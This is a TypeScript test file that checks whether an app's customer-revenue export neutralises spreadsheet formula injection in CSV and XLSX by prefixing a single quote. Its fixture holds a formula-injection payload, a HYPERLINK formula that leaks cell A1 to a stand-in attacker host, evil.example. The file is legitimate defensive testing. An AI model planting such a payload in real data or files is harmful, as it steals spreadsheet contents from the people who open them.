// Exports against the real provider: a customer named like a spreadsheet formula is written as
// text in CSV and XLSX (a leading single quote, OWASP's advice), its figures stay numbers
// (docs/decisions/realtime-door.md, "Exports"). The export code is the app's own
// (lib/server/report-export.ts), fed by the provider as the export route feeds it.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { studioDay } from '../../domain/studio-time';
import { customerRevenueReport } from '../../lib/reports/customer-revenue';
import type { ExportFormat } from '../../lib/server/report-export';
import { customers } from '../../provider/src/db/schema';
import { csvLines, exportedReport, xlsxRows } from './report-export-support';
import { startTaskWorld, type TaskWorld } from './tasks-support';

const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")';
const PLAIN_NAME = 'Khách Bình Thường';

let w: TaskWorld;
before(async () => {
  w = await startTaskWorld();
  // One job completed this month for each customer, through the real workflow.
  for (const name of [FORMULA_NAME, PLAIN_NAME]) {
    const [customer] = await w.p.db.insert(customers).values({ name, active: true }).returning({ id: customers.id });
    let card = await w.create({ editorId: w.id.editor, qaId: w.id.qa, customerId: customer!.id, totalFile: 3 });
    for (const [status, as] of [['InProgress', 'editor'], ['WaitApprove', 'editor'], ['Completed', 'qa']] as const) {
      const moved = await w.move(card, status, as);
      assert.equal(moved.errors, undefined, JSON.stringify(moved.errors));
      card = moved.data!.move_task;
    }
  }
});
after(async () => w?.p.close());

/** This month's customer revenue, exported. */
function exported(format: ExportFormat): Promise<Buffer> {
  const today = studioDay();
  return exportedReport(w, customerRevenueReport, { startDate: `${today.slice(0, 8)}01`, endDate: today }, format);
}

describe('a customer named like a formula, exported', () => {
  it('CSV: the name starts with a single quote; the plain name and the numbers are as they were', async () => {
    const lines = csvLines(await exported('csv'));
    const formula = lines.find((line) => line.includes('HYPERLINK'));
    assert.ok(formula, lines.join('\n'));
    // csv-stringify quotes the field (it holds quotes and a comma): "'=HYPERLINK(""http…
    assert.ok(formula.startsWith(`"'=HYPERLINK(`), formula);
    assert.match(formula, /,1,3,/);
    const plain = lines.find((line) => line.startsWith(PLAIN_NAME));
    assert.ok(plain, lines.join('\n'));
  });

  it('XLSX: the same name is a quoted string cell, never a formula; jobs and files are numbers', async () => {
    const rows = await xlsxRows(await exported('xlsx'));
    const formula = rows.find((row) => String(row[0]).includes('HYPERLINK'))!;
    assert.equal(formula[0], `'${FORMULA_NAME}`);
    assert.deepEqual(formula.slice(1, 3), [1, 3]);
    assert.ok(rows.some((row) => row[0] === PLAIN_NAME));
  });
});
